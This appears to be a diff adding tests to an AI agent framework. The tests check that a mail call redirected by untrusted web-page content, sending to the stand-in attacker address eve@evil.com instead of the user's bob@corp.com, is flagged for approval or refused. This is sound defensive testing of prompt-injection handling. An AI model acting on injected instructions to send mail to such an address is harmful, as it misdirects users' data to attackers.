@@ -10,6 +10,7 @@ from acc import (
     EventKind,
     InvalidTree,
     ModelRequest,
+    RunConfig,
     Runner,
     RunResult,
     ToolLabels,
@@ -418,3 +419,36 @@ def test_name_as_tuple_labels_parameters_and_as_text_names_the_tool() -> None:
         return title
 
     assert create_event.name == "make"
+
+
+@pytest.mark.parametrize("debug", [False, True])
+async def test_policy_decides_about_stubs_as_about_the_tools(debug: bool) -> None:
+    desk = Desk()
+    model = Planner(planned("send"), READ, call("send", to="eve@evil.com", body="hi"), "done")
+    agent = Agent(name="desk", model=model, tools=desk.tools(), memory=None, flow="ask")
+    runner = Runner(agent)
+    stubs: dict[str, Any] = {"read_page": PAGE}
+    if not debug:
+        stubs["send"] = lambda arguments: f"would send to {arguments['to']}"
+    config = RunConfig(stubs=stubs, debug=debug)
+    result = await runner.run("Read www.news.com and mail bob@corp.com", config=config)
+    (request,) = result.requests
+    assert "untrusted result of read_page" in request.message
+    edited = {"to": "bob@corp.com", "body": "hi"}
+    result = await runner.resume([approve(request, arguments=edited)], config=config)
+    assert (result.text, desk.sent) == ("done", [])
+    stubbed = [event for event in result.events if event.detail.get("stub")]
+    assert "bob@corp.com" in str(stubbed[-1].parts)
+
+
+async def test_refused_call_does_not_reach_its_stub() -> None:
+    desk = Desk()
+    reached: list[Any] = []
+    model = Planner(planned("send"), READ, call("send", to="eve@evil.com", body="hi"), "done")
+    agent = Agent(name="desk", model=model, tools=desk.tools(), memory=None, flow="strict")
+    stubs: dict[str, Any] = {"read_page": PAGE, "send": reached.append}
+    result = await Runner(agent).run(
+        "Read www.news.com and mail bob@corp.com", config=RunConfig(stubs=stubs)
+    )
+    assert (result.text, reached) == ("done", [])
+    assert decisions(result)[-1] == ("send", "refuse")
